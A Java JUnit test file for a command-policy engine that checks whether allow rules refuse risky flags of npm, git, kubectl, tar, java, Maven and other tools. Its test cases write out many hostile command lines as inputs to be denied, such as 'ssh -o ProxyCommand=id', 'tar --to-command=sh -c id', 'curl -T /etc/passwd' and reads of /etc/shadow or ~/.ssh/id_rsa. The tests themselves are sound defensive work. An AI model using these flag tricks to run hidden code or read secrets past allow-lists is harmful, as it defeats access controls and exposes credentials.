package dev.gatehouse.policy;

import static dev.gatehouse.policy.ArgvEvasionTest.argv;
import static dev.gatehouse.policy.ArgvEvasionTest.line;
import static dev.gatehouse.policy.Fixtures.decide;
import static dev.gatehouse.policy.Fixtures.human;
import static dev.gatehouse.policy.Fixtures.policy;
import static dev.gatehouse.policy.Fixtures.target;
import static dev.gatehouse.policy.PolicyLoadErrorsTest.problems;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Allow and review rules refuse a flag of the risky-flag catalogue ({@link RiskyFlags}) unless they
 * name it: a rule for {@code npm test} must not admit {@code npm test --script-shell=/tmp/x.sh}.
 * Each case is decided by the whole engine; DENY here is the default deny of a rule that did not
 * match.
 */
class ArgvRiskyFlagsTest {
  /** Allow rules as operators write them: a program and a subcommand, no flag lists. */
  static final PolicySet RULES =
      policy(
          """
          rules:
            - id: npm
              effect: allow
              command: { binary: npm, subcommand: [test, ci, run] }
            - id: npm-install-prefix
              effect: allow
              command:
                binary: npm
                subcommand: install
                flags: { accept_risky: [--prefix] }
            - id: git
              effect: allow
              command: { binary: git }
            - id: kubectl-read
              effect: allow
              command: { binary: kubectl, subcommand: [get, describe] }
            - id: kubectl-apply-other-cluster
              effect: review
              review: { groups: [sre], approvals: 1 }
              command:
                binary: kubectl
                subcommand: apply
                flags: { accept_risky: [--context, -f] }
            - id: builds
              effect: allow
              command: { binary: [mvn, gradle] }
            - id: terraform
              effect: allow
              command: { binary: terraform, subcommand: [plan, init] }
            - id: terraform-elsewhere
              effect: allow
              command:
                binary: terraform
                subcommand: validate
                flags: { accept_risky: [--chdir] }
            - id: interpreters
              effect: allow
              command: { binary: [node, python3, ruby] }
            - id: pytest
              effect: allow
              command:
                binary: python3
                args: [pytest]
                flags: { allowed: [-m, -q, -x] }
            - id: tools
              effect: allow
              command: { binary: [curl, tar, ssh] }
            - id: rsync-any-flag
              effect: allow
              command: { binary: rsync, flags: { allowed: ["-*"] } }
            - id: jdk
              effect: allow
              command: { binary: [java, javac, jshell] }
            - id: kubectl-logs
              effect: allow
              command: { binary: kubectl, subcommand: logs, flags_with_values: [-n] }
            - id: npm-shell
              effect: allow
              command: { binary: [npm, echo], shell: true }
            - id: restore-anywhere
              effect: allow
              command: { binary: bsdtar, flags: { accept_risky: [directory-outside] } }
            - id: file-lists
              effect: allow
              command: { binary: gtar, flags: { accept_risky: [-T, --files-from] } }
          """);

  static Arguments refused(String name, Action a) {
    return Arguments.of(name, a, Effect.DENY);
  }

  static Arguments allowed(String name, Action a) {
    return Arguments.of(name, a, Effect.ALLOW);
  }

  static Stream<Arguments> cases() {
    return Stream.of(
        // --- npm: settings that run programs or load other configuration ---
        refused("--script-shell=", line("npm test --script-shell=/tmp/evil.sh")),
        refused("--script-shell VALUE", argv("npm", "test", "--script-shell", "/tmp/evil.sh")),
        refused("before the subcommand", line("npm --script-shell=/tmp/e test")),
        refused("abbreviated (nopt prefixes)", line("npm test --script-sh=/tmp/e")),
        refused("one dash (nopt)", line("npm test -script-shell=/tmp/e")),
        refused("other case and underscore", line("npm test --Script_Shell=/tmp/e")),
        // npm 11.19 ignores these three ("Unknown cli config"); pnpm keeps settings in camelCase
        refused("camelCase (pnpm's spelling)", line("npm test --scriptShell=/tmp/e")),
        refused("camelCase, one dash", line("npm test -scriptShell=/tmp/e")),
        refused("upper case", line("npm test --SCRIPT-SHELL=/tmp/e")),
        refused("camelCase abbreviated", line("npm test --scriptSh=/tmp/e")),
        refused("camelCase --nodeOptions", line("npm test --nodeOptions=--require=/tmp/x.js")),
        refused("--userconfig", line("npm test --userconfig=/tmp/npmrc")),
        refused("--globalconfig VALUE", line("npm ci --globalconfig /tmp/npmrc")),
        refused("--node-options", argv("npm", "test", "--node-options=--require=/tmp/x.js")),
        refused("-C (prefix) after the subcommand", line("npm test -C /tmp/other")),
        refused("--prefix on a rule that accepts only others", line("npm test --prefix=/tmp/o")),
        refused(
            "accepted --prefix does not admit --userconfig", line("npm install --userconfig=/x")),
        refused("in a shell line", line("npm test --script-shell=/tmp/x && echo ok")),
        // a shell rule: enable -f and fc run code the line does not show, like | sh
        refused("shell rule: enable -f", line("npm test; enable -f /tmp/x.so x && x")),
        refused("shell rule: history -s; fc -s", line("npm test; history -s 'x'; fc -s")),
        refused("shell rule: fc -e", line("npm test && fc -e /tmp/ed")),
        allowed("shell rule: fc -l only lists", line("npm test; fc -l")),
        allowed("shell rule: fc -ln -5 only lists", line("npm test; fc -ln -5")),
        // bash runs the command with -s whatever -l says; -e's value is not option letters
        refused("shell rule: fc -l -s re-runs", line("npm test; set -o history; fc -l -s")),
        refused("shell rule: fc -ls re-runs", line("npm test; fc -ls")),
        refused("shell rule: fc -e glued", line("npm test; fc '-ecurl x|sh;true'")),
        refused("shell rule: fc -le editor", line("npm test; fc -le vi")),
        allowed("shell rule: enable -n turns a builtin off", line("npm test; enable -n kill")),
        allowed("npm test with ordinary flags", line("npm test --loglevel=silent --no-audit")),
        allowed("npm ci --global is not --globalconfig", line("npm ci --global")),
        allowed("the risky flag the rule accepts", line("npm install --prefix=/srv/app")),
        refused(
            "a second risky flag behind the accepted one",
            line("npm install --prefix /srv/app --script-shell=/tmp/evil")),
        refused(
            "an accepted flag after the refused one changes nothing",
            line("npm install --script-shell=/tmp/evil --prefix=/srv/app")),
        // npm passes it to the script's program, whose options may run code (node --test
        // --import=...): the catalogue's script-options since rt21exec (ArgvTwentyFirstRoundTest)
        refused(
            "after --, an option of the script's program", line("npm test -- --script-shell=x")),
        allowed("after --, a word of the script's", line("npm test -- x")),
        // --- git: global options, and subcommand options that run programs ---
        refused("-c before the subcommand", argv("git", "-c", "core.fsmonitor=/tmp/x", "status")),
        refused("-c glued", line("git -ccore.fsmonitor=/tmp/x status")),
        refused("-c after status (no such option there)", line("git status -c core.pager=id")),
        refused("--config-env", line("git --config-env=core.pager=EVIL log")),
        refused("-C another repository", line("git -C /tmp/other status")),
        refused("--git-dir", line("git --git-dir=/tmp/evil/.git status")),
        refused("--git-dir abbreviated", line("git --git-d=/tmp/evil/.git log")),
        refused("-C after another global option", line("git -P -C /tmp/o log")),
        refused("rebase -x", argv("git", "rebase", "-x", "sh /tmp/evil", "main")),
        refused("rebase --exec=", argv("git", "rebase", "--exec=id", "main")),
        refused("rebase -ix cluster", argv("git", "rebase", "-ix", "id", "main")),
        refused("fetch --upload-pack", line("git fetch --upload-pack=/tmp/x origin")),
        refused("clone -u", line("git clone -u /tmp/x https://example.com/r.git")),
        refused(
            "clone -c (config of the new repository)", line("git clone -c core.hooksPath=/t u")),
        refused("grep -O (runs a pager)", argv("git", "grep", "-Osh -c id", "foo")),
        refused("diff --output", line("git diff --output=/home/u/.bashrc")),
        allowed("log -C is copy detection", line("git log -C --stat")),
        allowed("commit -c reuses a message", line("git commit -c HEAD")),
        allowed("show -c is a diff format", line("git show -c HEAD")),
        allowed("log with ordinary flags", line("git log -n 5 --oneline")),
        allowed("-u after fetch is --update-head-ok", line("git fetch -u origin")),
        allowed("commit -m with an x in it", line("git commit -mfix")),
        // --- kubectl: credentials, identity, target ---
        refused("--kubeconfig=", line("kubectl get pods --kubeconfig=/tmp/k")),
        refused("--kubeconfig before get", line("kubectl --kubeconfig=/tmp/k get pods")),
        refused("--token", line("kubectl get pods --token=abc")),
        refused("-s another server", line("kubectl get pods -s https://evil.example")),
        refused("--as", line("kubectl get secrets --as=system:admin")),
        refused("--as-group", line("kubectl get pods --as-group=system:masters")),
        refused("--as-uid", line("kubectl get pods --as-uid 0")),
        refused("--context not accepted by the read rule", line("kubectl get pods --context=p")),
        allowed("namespace and output", line("kubectl get pods -n prod -o wide")),
        allowed("a value glued to -n is not a flag", line("kubectl get pods -nsystem")),
        // --- Maven, Gradle, terraform ---
        refused("mvn -s", line("mvn -s /tmp/settings.xml test")),
        refused("mvn -s glued", line("mvn -s/tmp/settings.xml test")),
        refused("mvn -gs", line("mvn test -gs /tmp/s.xml")),
        refused("mvn --settings=", line("mvn test --settings=/tmp/s.xml")),
        refused("mvn -f another POM", line("mvn -f /tmp/evil/pom.xml test")),
        refused("gradle -I", line("gradle test -I /tmp/init.gradle")),
        refused("gradle --init-script=", line("gradle test --init-script=/tmp/init.gradle")),
        refused("terraform -chdir", line("terraform -chdir=/tmp/other plan")),
        refused("terraform --chdir", line("terraform --chdir=/tmp/other plan")),
        refused("terraform -state", line("terraform plan -state=/tmp/s")),
        refused("terraform -plugin-dir", line("terraform init -plugin-dir=/tmp/p")),
        allowed("mvn -fae is fail-at-end", line("mvn -B -fae -Dskip.tests=true test")),
        allowed("gradle --offline", line("gradle test --offline")),
        allowed("terraform -out", line("terraform plan -out=p")),
        allowed("terraform -backend=false", line("terraform init -backend=false")),
        allowed("accepted as --chdir, written -chdir", line("terraform -chdir=infra validate")),
        // --- interpreters ---
        refused("node -r", line("node -r /tmp/x.js app.js")),
        refused("node --require=", line("node --require=/tmp/x.js app.js")),
        refused("node --import", line("node --import /tmp/x.mjs app.js")),
        refused("node --loader=", line("node --loader=/tmp/l.mjs app.js")),
        refused("node --inspect", line("node --inspect=0.0.0.0:9229 app.js")),
        refused("node -e", argv("node", "-e", "require('child_process')")),
        refused("python -c", argv("python3", "-c", "import os", "x.py")),
        refused("python -m", line("python3 -m http.server")),
        refused("python -Bc cluster", argv("python3", "-Bc", "import os")),
        refused("python -i", line("python3 -i app.py")),
        allowed("python script arguments are the script's", line("python3 -W ignore app.py -c x")),
        allowed("python -m named in flags.allowed", line("python3 -m pytest -q -x")),
        allowed("node with a script", line("node --no-warnings app.js")),
        // Ruby 3.3+: on a crash the report goes to a pipe to a command
        refused("ruby --crash-report=|cmd", argv("ruby", "--crash-report=|sh -c id", "app.rb")),
        refused("ruby --crash-report next word", argv("ruby", "--crash-report", "|id", "app.rb")),
        refused("ruby --crash (segment prefix)", argv("ruby", "--crash=|id", "app.rb")),
        refused("ruby --c-r (segment prefixes)", argv("ruby", "--c-r=|id", "app.rb")),
        refused("ruby --CRASH_REPORT", argv("ruby", "--CRASH_REPORT=|id", "app.rb")),
        allowed("ruby --disable-gems", line("ruby --disable-gems app.rb")),
        // --- curl, tar, rsync, ssh ---
        refused("curl -K", line("curl -K /tmp/cfg https://example.com")),
        refused("curl --config=", line("curl --config=/tmp/cfg https://example.com")),
        refused("curl -o in a cluster", line("curl -sSo /home/u/.bashrc https://example.com")),
        refused("curl -T uploads a local file", line("curl -T /etc/passwd https://example.com")),
        refused("tar --to-command", argv("tar", "-xf", "a.tar", "--to-command=sh -c id")),
        refused("tar old-style I", line("tar xIf /tmp/evil a.tar")),
        refused("tar --checkpoint-action", argv("tar", "-cf", "o", "--checkpoint-action=exec=id")),
        refused("tar --use-compress-program abbreviated", line("tar --use-comp=/tmp/x -xf a.tar")),
        refused("rsync -e (even with flags.allowed: [-*])", argv("rsync", "-e", "sh", "a", "h:b")),
        refused("rsync -ave cluster", argv("rsync", "-ave", "ssh", "a", "h:b")),
        refused("ssh -o", argv("ssh", "-o", "ProxyCommand=id", "h")),
        refused("ssh -vo cluster", argv("ssh", "-vo", "ProxyCommand=id", "h")),
        refused("ssh -L", line("ssh -L 8080:db:5432 h")),
        refused("ssh -A", line("ssh -A h")),
        allowed("curl -sSL", line("curl -sSL https://example.com")),
        allowed("curl -H value with a dash", argv("curl", "-H", "X-A: b", "https://example.com")),
        allowed("tar --checkpoint is not --checkpoint-action", line("tar -cf o --checkpoint=1 s")),
        allowed("tar -C", line("tar -xzf a.tgz -C out")),
        // tar -C/--directory elsewhere writes outside the working directory, as -P does
        refused("tar -C /", line("tar -xf x.tar -C /")),
        refused("tar -C/ glued", line("tar -xf x.tar -C/")),
        refused("tar --directory=/", line("tar -xf x.tar --directory=/")),
        refused("tar --directory /", line("tar -xf x.tar --directory /etc")),
        refused("tar --dir= abbreviated", line("tar -xf x.tar --dir=/etc")),
        refused("tar --DIRECTORY upper case", line("tar -xf x.tar --DIRECTORY=/etc")),
        refused("tar -C climbing", line("tar -xf x.tar -C ../..")),
        refused("tar -C a/../.. climbing", line("tar -xf x.tar -C a/../..")),
        refused("tar -C ~", argv("tar", "-xf", "x.tar", "-C", "~")),
        refused("tar -xvC cluster", line("tar -xvC / -f x.tar")),
        refused("tar -C before the archive", line("tar -C / -xf x.tar")),
        refused("tar old-style xCf", line("tar xCf / x.tar")),
        refused("tar old-style xfC", line("tar xfC x.tar /")),
        refused("tar --cd (bsdtar)", line("tar -xf x.tar --cd /")),
        refused("tar --one-top-level=/abs", line("tar -xf x.tar --one-top-level=/etc/x")),
        refused("tar --one-top= abbreviated", line("tar -xf x.tar --one-top=/etc/x")),
        allowed("tar --one-top-level=out", line("tar -xf x.tar --one-top-level=out")),
        allowed("tar -C a/../b stays inside", line("tar -xzf a.tgz -C a/../b")),
        allowed("tar -C ./out", line("tar -xzf a.tgz --directory=./out")),
        allowed("tar -xfC: C is -f's value", line("tar -xfC /tmp/x.tar")),
        allowed("tar old-style xfC inside", line("tar xfC /tmp/x.tar out")),
        allowed("accept_risky: [directory-outside]", line("bsdtar -xf x.tar -C /srv/restore")),
        // seventeenth session: a file list names what tar reads or extracts, out of the policy's
        // sight, and GNU tar 1.34 obeys -C DIR, --directory=DIR, --add-file and -T lines in it
        refused("tar -T", line("tar -cf out.tar -T list")),
        refused("tar -T - (stdin)", line("tar -cf out.tar -T -")),
        refused("tar -Tlist glued", line("tar -cf out.tar -Tlist")),
        refused("tar -cvT cluster", line("tar -cvT list -f out.tar")),
        refused("tar --files-from=", line("tar -cf out.tar --files-from=list")),
        refused("tar --files-from VALUE", line("tar -cf out.tar --files-from list")),
        refused("tar --files-f= abbreviated", line("tar -cf out.tar --files-f=list")),
        refused("tar --files abbreviated", line("tar -cf out.tar --files list")),
        refused("tar --FILES_FROM case", line("tar -cf out.tar --FILES_FROM=list")),
        refused("tar old-style cfT", line("tar cfT out.tar list")),
        refused("tar old-style cTf", line("tar cTf list out.tar")),
        refused("tar -T on extraction", line("tar -xf x.tar -T list")),
        refused(
            "tar --verbatim-files-from -T (absolute names are still read)",
            line("tar -cf out.tar --null --verbatim-files-from -T list")),
        refused("bsdtar -T", line("bsdtar -cf out.tar -T list")),
        refused("tar --add-file", line("tar -cf out.tar --add-file=/etc/shadow")),
        refused("tar --index-file writes the listing", line("tar -tvf x.tar --index-file=/x")),
        refused("tar -g writes a snapshot file", line("tar -cf o.tar -g /home/u/.bashrc src")),
        refused("tar --listed-incremental", line("tar -cf o.tar --listed-inc=/x src")),
        refused("tar --volno-file", line("tar -cf o.tar --volno-file=/x src")),
        // old-style: every letter of the first word is an option, a value letter included
        refused("tar old-style cfP (P after a value letter)", line("tar cfP out.tar /etc")),
        refused("tar old-style xfI", line("tar xfI x.tar /tmp/evil")),
        allowed("tar --file= is not --files-from", line("tar -c --file=out.tar src")),
        allowed("tar --file VALUE", line("tar -x --file x.tar")),
        allowed("tar -xfT: T is -f's value", line("tar -xfT")),
        allowed("tar -X narrows what is archived", line("tar -cf o.tar -X exclude.txt src")),
        allowed("tar --exclude-from", line("tar -cf o.tar --exclude-from=exclude.txt src")),
        allowed("tar --verbatim-files-from alone", line("tar -cf o.tar --verbatim-files-from s")),
        // -f HOST:FILE: tar runs rsh to that host (rtapelib.c _remdev)
        refused("tar -f HOST:FILE", line("tar -cf evil.example:/tmp/x.tar src")),
        refused("tar -fHOST:FILE glued", line("tar -cfevil.example:x.tar src")),
        refused("tar --file=HOST:FILE", line("tar -c --file=user@h:x.tar src")),
        refused("tar --file HOST:FILE", line("tar -x --file h:x.tar")),
        refused("tar old-style cf HOST:FILE", line("tar cf h:x.tar src")),
        allowed("tar -f with a colon after a slash", line("tar -xf ./a:b.tar")),
        allowed("tar -f HOST:FILE with --force-local", line("tar -xf a:b.tar --force-local")),
        allowed("accept_risky: [-T, --files-from]", line("gtar -cf o.tar -T list --files-from=l")),
        refused("accept_risky: [-T, ...] is not -P", line("gtar -cf o.tar -T list -P")),
        // eighteenth session: --remove-files deletes what it archives; bsdtar's @ARCHIVE reads
        // another archive; -N/--newer FILE reads the date of a file outside the workspace
        refused("tar --remove-files", line("tar -cf o.tar --remove-files logs")),
        refused("tar --remove (GNU tar 1.34 abbreviation)", line("tar -cf o.tar --remove logs")),
        refused("tar --Remove_Files case", line("tar -cf o.tar --Remove_Files logs")),
        refused("tar @ARCHIVE", line("tar -cf o.tar @/etc/backup.tar")),
        refused("bsdtar @ARCHIVE", line("bsdtar -cf o.tar src @../../x.tar")),
        refused("tar @- (stdin) after --", line("tar -cf o.tar -- @-")),
        refused("tar -N /file", line("tar -cf o.tar -N /etc/shadow src")),
        refused("tar -N/file glued", line("tar -cf o.tar -N/etc/shadow src")),
        refused("tar -cN cluster", line("tar -cN /etc/shadow -f o.tar src")),
        refused("tar --newer=../..", line("tar -cf o.tar --newer=../../etc/x src")),
        refused("tar --after-d abbreviated", line("tar -cf o.tar --after-d=/etc/hostname src")),
        refused("tar --newer-mtime FILE", line("tar -cf o.tar --newer-mtime /etc/hostname src")),
        refused("tar old-style cNf", line("tar cNf /etc/shadow o.tar src")),
        refused("bsdtar --newer-than FILE", line("bsdtar -cf o.tar --newer-than /etc/x src")),
        refused("bsdtar --older-than=FILE", line("bsdtar -cf o.tar --older-than=/etc/x src")),
        allowed("tar -N DATE", line("tar -cf o.tar -N 2024-01-01 src")),
        allowed("tar --newer ./ref in the workspace", line("tar -cf o.tar --newer ./ref src")),
        allowed("tar --newer-than ref in the workspace", line("tar -cf o.tar --newer-than ref s")),
        allowed("tar a member name with @ inside", line("tar -cf o.tar user@host.txt")),
        allowed("rsync -av --delete", line("rsync -av --delete a/ b/")),
        allowed("rsync's server side over SSH", line("rsync --server -vlogDtpre.iLsfxCIvu . /d")),
        allowed("ssh -p", line("ssh -p 2222 h uptime")),
        // --- round 5: the JDK's launchers, git diff --no-index, kubectl -f ---
        refused(
            "java -XX:OnOutOfMemoryError",
            argv("java", "-XX:MaxHeapSize=3m", "-XX:OnOutOfMemoryError=sh -c id", "B.java", "t")),
        refused("java -XX:OnError", line("java -XX:OnError=id B.java")),
        refused("java -XX:Flags", line("java -XX:Flags=/tmp/f B.java")),
        refused("java -XX:VMOptionsFile", line("java -XX:VMOptionsFile=/tmp/f -jar app.jar")),
        refused("java -agentlib:jdwp", line("java -agentlib:jdwp=transport=dt_socket B.java")),
        refused("java -agentpath", line("java -agentpath:/tmp/a.so B.java")),
        refused("java -javaagent", line("java -javaagent:/tmp/a.jar B.java")),
        refused("java -Xrunjdwp", line("java -Xrunjdwp:server=y B.java")),
        refused("java -Xdebug", line("java -Xdebug B.java")),
        refused("java system class loader", line("java -Djava.system.class.loader=E B.java")),
        refused("java security manager", line("java -Djava.security.manager=E B.java")),
        refused("java unlocks diagnostic flags", line("java -XX:+UnlockDiagnosticVMOptions B")),
        refused("java -Xbootclasspath/a", line("java -Xbootclasspath/a:/tmp/x B.java")),
        refused("java -cp (service providers run)", line("java -cp /tmp/x B.java")),
        refused("java @argfile", line("java @/tmp/opts B.java")),
        refused("java -cp @argfile", line("java -cp @/tmp/opts B.java")),
        refused("java --module= runs another main", line("java --module=m/Main B.java")),
        refused(
            "java flight recording (holds the environment)",
            line("java -XX:StartFlightRecording=filename=/tmp/r.jfr B.java")),
        refused("OpenJ9 -Xdump:tool", line("java -Xdump:tool:events=vmstop,exec=id B.java")),
        refused("javac -J", line("javac -J-javaagent:/tmp/a.jar A.java")),
        refused("javac -processorpath", line("javac -processorpath /tmp/p A.java")),
        refused("javac @argfile", line("javac @/tmp/args")),
        refused("jshell -R", line("jshell -R-agentlib:jdwp=server=y")),
        allowed("java -Xmx and a -D property", line("java -Xmx64m -Dapp.mode=test B.java t")),
        allowed("java: the program's own arguments", line("java B.java -XX:OnError=x @f")),
        allowed("java -jar: the program's own arguments", line("java -jar app.jar -cp x")),
        allowed(
            "javac -deprecation is not -d (one option per word)",
            line("javac -deprecation A.java")),
        refused("mvn -DargLine (surefire's JVM)", line("mvn test -DargLine=-javaagent:/tmp/a.jar")),
        refused("mvn -D exec.executable", argv("mvn", "test", "-D", "exec.executable=/bin/sh")),
        refused(
            "mvn --define=maven.ext.class.path", line("mvn test --define=maven.ext.class.path=/t")),
        refused("mvn --define NAME=V (two words)", line("mvn --define argLine=-javaagent:x test")),
        refused("mvn --defi= (an abbreviation)", line("mvn --defi=argLine=-javaagent:x test")),
        refused("mvn --DEFINE NAME=V (case)", line("mvn --DEFINE exec.executable=/bin/sh test")),
        refused("mvn -define= (one dash)", line("mvn -define=maven.repo.local=/t test")),
        refused("mvn -defi NAME=V (one dash, two words)", line("mvn -defi argLine=-javaagent:x")),
        // fifteenth round: more properties that plugins run or pass to a JVM
        refused(
            "mvn -Dmaven.surefire.debug (the forked JVM's options)",
            line("mvn -Dmaven.surefire.debug=-javaagent:/tmp/a.jar test")),
        refused(
            "mvn -Dmaven.failsafe.debug (the forked JVM's options)",
            line("mvn -Dmaven.failsafe.debug=-javaagent:/tmp/a.jar verify")),
        refused(
            "mvn -Dmaven.compiler.executable (run when fork is on)",
            line("mvn -Dmaven.compiler.fork=true -Dmaven.compiler.executable=/tmp/x test")),
        refused(
            "mvn -D javadocExecutable (two words)",
            argv("mvn", "verify", "-D", "javadocExecutable=/tmp/x")),
        refused("mvn --define gpg.executable", line("mvn --define gpg.executable=/tmp/x verify")),
        allowed("mvn -Dmaven.compiler.fork alone", line("mvn -Dmaven.compiler.fork=true test")),
        refused(
            "node --experimental-config-file (nodeOptions: import, require)",
            line("node --experimental-config-file=/tmp/n.json app.js")),
        refused(
            "node --inspect-port (where SIGUSR1 opens the inspector)",
            line("node --inspect-port=0.0.0.0:9229 app.js")),
        allowed("mvn --define of an ordinary property", line("mvn --define skipITs=true test")),
        allowed("mvn -D of an ordinary property", line("mvn test -D skipITs=true")),
        refused("git diff --no-index", line("git diff --no-index /etc/shadow /dev/null")),
        refused("git diff of an absolute path", line("git diff /etc/shadow /dev/null")),
        refused("git diff climbing with ..", line("git diff HEAD ../../etc/shadow")),
        // a shell expands ~ to the home directory (review of the sixteenth session)
        refused("git diff of a ~ path", line("git diff ~/.ssh/id_rsa /dev/null")),
        allowed("git diff of revisions", line("git diff main..topic -- src")),
        refused("git grep --no-index", line("git grep --no-index root ../../etc")),
        refused("git difftool of an absolute path", line("git difftool -y /etc/shadow x")),
        allowed("git log of an absolute path is not diff", line("git log -- /etc")),
        refused("kubectl get -f", line("kubectl get -f /etc/passwd")),
        refused("kubectl describe --filename", line("kubectl describe --filename http://x/y")),
        refused("kubectl get -k", line("kubectl get -k /tmp/kustomization")),
        allowed("kubectl logs -f is --follow", line("kubectl logs -f api")),
        allowed("kubectl logs -f after -n VALUE", line("kubectl -n payments logs api -f")),
        refused("kubectl -f before logs is not logs' -f", line("kubectl get -f x logs")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void decides(String name, Action a, Effect expected) {
    Decision d = decide(RULES, human("mallory"), target("runner"), a);
    assertThat(d.effect()).as(name + ": " + a.raw() + " -> " + d.explanation()).isEqualTo(expected);
  }

  @Test
  void hasAtLeastThirtyCases() {
    assertThat(cases().count()).isGreaterThanOrEqualTo(30);
  }

  /**
   * Options whose value is optional and only attached (GNU sed's {@code -i}, grep's {@code
   * --color}) never take the next word, even when a rule lists them in {@code flags_with_values}:
   * otherwise {@code sed -i s/x/y/ /etc/passwd} reads the script as -i's suffix and the file as the
   * script, which no path constraint checks.
   */
  @Test
  void optionalValuesAreNotTakenFromTheNextWord() {
    PolicySet p =
        policy(
            """
            rules:
              - id: edit
                effect: allow
                command:
                  binary: [sed, grep]
                  args: ["*"]
                  paths: [/srv/app]
                  flags_with_values: [-i, --color, -e]
                  flags: { allowed: [-i, --color, -e, -n] }
            """);
    assertThat(decide(p, human("m"), target("t"), line("sed -i s/x/y/ /etc/passwd")).effect())
        .isEqualTo(Effect.DENY);
    assertThat(decide(p, human("m"), target("t"), line("sed -i s/x/y/ /srv/app/a")).effect())
        .isEqualTo(Effect.ALLOW);
    assertThat(decide(p, human("m"), target("t"), line("grep --color root /etc/shadow")).effect())
        .isEqualTo(Effect.DENY);
    assertThat(decide(p, human("m"), target("t"), line("grep --color x /srv/app/log")).effect())
        .isEqualTo(Effect.ALLOW);
  }

  @Test
  void reviewRulesAreHeldToTheSameCatalogue() {
    assertThat(effect(line("kubectl apply -f x.yaml --context=prod"))).isEqualTo(Effect.REVIEW);
    assertThat(effect(line("kubectl apply -f x.yaml --as=admin"))).isEqualTo(Effect.DENY);
    // -f reads a file (or URL) for apply too: the rule names it; --filename it does not
    assertThat(effect(line("kubectl apply --filename x.yaml"))).isEqualTo(Effect.DENY);
  }

  @Test
  void theExplanationNamesTheFlagAndTheFixButNotItsValue() {
    Decision d = decide(RULES, human("m"), target("t"), line("kubectl get pods --token=s3cr3t"));
    String all = String.join("\n", d.explanation());
    assertThat(all)
        .contains(
            "rule kubectl-read (allow, test.yaml:14): no match: flag --token of kubectl loads"
                + " configuration or credentials from elsewhere, and the rule does not name it"
                + " (list it in flags.accept_risky to allow it)")
        .doesNotContain("s3cr3t");
  }

  @Test
  void denyRulesAreUnchanged() {
    PolicySet p =
        policy(
            """
            rules:
              - id: anything
                effect: allow
                command: { binary: git }
              - id: no-push
                effect: deny
                command: { binary: git, args: [push] }
            """);
    assertThat(decide(p, human("m"), target("t"), line("git push origin")).rule())
        .isEqualTo("no-push");
    assertThat(decide(p, human("m"), target("t"), line("git -C /x push")).rule())
        .isEqualTo("no-push");
    assertThat(decide(p, human("m"), target("t"), line("git status")).effect())
        .isEqualTo(Effect.ALLOW);
  }

  @Test
  void acceptingOneFlagOfAClusterDoesNotAcceptTheOther() {
    PolicySet p =
        policy(
            """
            rules:
              - id: interactive-python
                effect: allow
                command: { binary: python3, flags: { accept_risky: [-i] } }
            """);
    assertThat(decide(p, human("m"), target("t"), line("python3 -i app.py")).effect())
        .isEqualTo(Effect.ALLOW);
    assertThat(decide(p, human("m"), target("t"), line("python3 -ic 'import os'")).effect())
        .isEqualTo(Effect.DENY);
  }

  @Test
  void acceptRiskyIsValidatedAtLoad() {
    assertThat(
            problems(
                """
                rules:
                  - id: a
                    effect: allow
                    command: { binary: npm, flags: { accept_risky: [--loglevel] } }
                """))
        .singleElement()
        .satisfies(
            p ->
                assertThat(p)
                    .startsWith("p.yaml:4: ")
                    .contains("--loglevel is not a risky flag of npm")
                    .contains("--script-shell")
                    .contains("list ordinary flags in flags.allowed"));
    assertThat(
            problems(
                """
                rules:
                  - id: a
                    effect: deny
                    command: { binary: npm, flags: { accept_risky: [--prefix] } }
                """))
        .singleElement()
        .satisfies(p -> assertThat(p).contains("not allowed on a deny rule"));
    assertThat(
            problems(
                """
                rules:
                  - id: a
                    effect: allow
                    command: { binary: kubectl, flags: { accept_risky: ["--as*"] } }
                """))
        .singleElement()
        .satisfies(p -> assertThat(p).contains("expected one flag by its exact name"));
    assertThat(
            problems(
                """
                rules:
                  - id: a
                    effect: allow
                    command: { binary: ls, flags: { accept_risky: [-R] } }
                """))
        .singleElement()
        .satisfies(p -> assertThat(p).contains("no risky flags are catalogued for it"));
  }

  private static Effect effect(Action a) {
    return decide(RULES, human("mallory"), target("runner"), a).effect();
  }
}
